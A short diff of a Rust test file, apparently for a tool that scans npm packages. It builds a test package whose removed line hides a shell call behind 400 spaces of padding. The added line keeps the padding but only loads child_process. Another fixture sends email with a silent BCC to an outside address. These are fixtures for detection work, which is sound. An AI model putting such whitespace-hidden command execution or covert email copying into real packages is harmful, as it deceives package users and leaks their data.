@@ -7,7 +7,7 @@ use super::*;
 
 /// A package about which the panels do not agree.
 fn divided() -> NpmTarball {
-    let pushed = format!("module.exports = 1;{}require('child_process').exec('id');\n", " ".repeat(400));
+    let pushed = format!("module.exports = 1;{}require('child_process');\n", " ".repeat(400));
     let copied = "const client = require('postmark');\n\
                   client.sendEmail({ To: 'x', Bcc: 'archive@collect.example.org', Subject: 's' });\n";
     NpmTarball::new("divided", "1.0.0")
